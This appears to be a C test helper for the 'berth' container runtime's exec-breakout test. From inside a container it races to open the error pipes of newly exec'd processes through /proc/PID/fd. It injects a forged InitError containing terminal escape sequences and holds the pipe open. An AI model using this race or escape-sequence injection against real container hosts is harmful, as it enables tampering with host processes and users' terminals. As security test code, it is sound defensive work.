/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Run inside a container (static) against `berth exec` (73-breakout-exec.sh).
 *
 *   exec-race race SECONDS LOG [hold]
 *                                for SECONDS, readlink /proc/PID/fd/N (N
 *                                3-12) of the newest processes; a pipe is
 *                                "seen", then opened for writing, and if
 *                                that works "reached": a forged InitError
 *                                goes in (exit code 42, a message with
 *                                escape sequences; with hold, nothing) and
 *                                it is kept open, so that an error pipe
 *                                never sees its end. LOG gets a line for
 *                                each pipe seen and reached, and
 *                                "tries N" at the end, which comes early
 *                                once a file LOG.stop exists.
 *   exec-race dumpable           prints prctl(PR_GET_DUMPABLE)
 *   berth-stage ERRFD COMMAND... (BERTH_STAGE=exec-race, as argv[0] is
 *                                berth-stage) stands in for berth-stage:
 *                                says on stderr whether it is dumpable,
 *                                then execs COMMAND (an absolute path)
 *   exec-race fds [FILE]         prints what fds 0-2 are (pipe, chr, reg,
 *                                dir...), to FILE if given */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* common/protocol.h's InitError. */
typedef struct {
	int32_t error;
	int32_t exit_code;
	char msg[512];
} InitError;

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Pids in a PID namespace are handed out in order: the next process
 * `berth exec` starts is the one after the newest, so that one is tried
 * over and over, and /proc is read again only now and then. */
static int newest_pid(pid_t self)
{
	int max = 1;
	DIR *d = opendir("/proc");
	if (!d)
		return max;
	struct dirent *de;
	while ((de = readdir(d))) {
		int pid = atoi(de->d_name);
		if (pid > max && pid != self)
			max = pid;
	}
	closedir(d);
	return max;
}

static int race(double seconds, const char *log, bool hold)
{
	FILE *out = fopen(log, "w");
	if (!out)
		return 1;
	setvbuf(out, NULL, _IOLBF, 0);
	InitError e = { .error = -1, .exit_code = 42 };
	snprintf(e.msg, sizeof(e.msg),
		 "\033]0;FORGED-TITLE\007\033[2J\033[31mFORGED by the container\033[0m");
	/* A reader that goes between open() and write() is no reason to die. */
	signal(SIGPIPE, SIG_IGN);
	pid_t self = getpid();
	unsigned long tries = 0, round = 0;
	int newest = newest_pid(self), last_pid = 0, last_fd = 0;
	char stop[4096];
	snprintf(stop, sizeof(stop), "%s.stop", log);
	double end = now() + seconds;
	while (now() < end) {
		if (++round % 256 == 0) {
			newest = newest_pid(self);
			if (access(stop, F_OK) == 0)
				break;
		}
		for (int pid = newest - 1; pid <= newest + 3; pid++) {
			/* pid 1 (the container's command) holds only its stdio. */
			if (pid <= 1 || pid == self)
				continue;
			for (int n = 3; n <= 12; n++) {
				char p[64], target[64];
				snprintf(p, sizeof(p), "/proc/%d/fd/%d", pid, n);
				tries++;
				/* Reachable at all (ptrace's read mode): readlink. */
				ssize_t k = readlink(p, target, sizeof(target) - 1);
				if (k < 0)
					continue;
				target[k] = 0;
				if (pid > newest)
					newest = pid;
				if (strncmp(target, "pipe:", 5) != 0)
					continue;
				/* Once per process and descriptor (the last one is
				 * enough: they come one after another). */
				if (pid == last_pid && n == last_fd)
					continue;
				last_pid = pid, last_fd = n;
				fprintf(out, "seen pid %d fd %d: %s\n", pid, n, target);
				/* The pipe's inode is the host's: in a user namespace
				 * it stays out of reach even now. */
				int fd = open(p, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
				if (fd < 0)
					continue;
				ssize_t w = hold ? 0 : write(fd, &e, sizeof(e));
				fprintf(out, "reached pid %d fd %d: wrote %zd\n", pid, n, w);
				/* Kept open: the error pipe's reader never sees its end. */
			}
		}
	}
	fprintf(out, "tries %lu\n", tries);
	return 0;
}

static const char *kind(int fd)
{
	struct stat st;
	if (fstat(fd, &st) < 0)
		return "closed";
	switch (st.st_mode & S_IFMT) {
	case S_IFIFO:
		return "pipe";
	case S_IFCHR:
		return "chr";
	case S_IFREG:
		return "reg";
	case S_IFDIR:
		return "dir";
	case S_IFSOCK:
		return "sock";
	default:
		return "other";
	}
}

int main(int argc, char *argv[], char *envp[])
{
	if (strcmp(argv[0], "berth-stage") == 0 && argc >= 3) {
		fprintf(stderr, "stage dumpable %d\n", prctl(PR_GET_DUMPABLE, 0, 0, 0, 0));
		fcntl(atoi(argv[1]), F_SETFD, FD_CLOEXEC);
		execve(argv[2], argv + 2, envp);
		return 127;
	}
	if ((argc == 4 || argc == 5) && strcmp(argv[1], "race") == 0)
		return race(atof(argv[2]), argv[3], argc == 5 && strcmp(argv[4], "hold") == 0);
	if (argc == 2 && strcmp(argv[1], "dumpable") == 0) {
		printf("%d\n", prctl(PR_GET_DUMPABLE, 0, 0, 0, 0));
		return 0;
	}
	if ((argc == 2 || argc == 3) && strcmp(argv[1], "fds") == 0) {
		const char *k[3] = { kind(0), kind(1), kind(2) };
		FILE *f = argc == 3 ? fopen(argv[2], "w") : stdout;
		if (!f)
			return 1;
		fprintf(f, "%s %s %s\n", k[0], k[1], k[2]);
		return fclose(f) == 0 ? 0 : 1;
	}
	fprintf(stderr, "usage: exec-race race SECONDS LOG [hold] | dumpable | fds [FILE]\n");
	return 2;
}
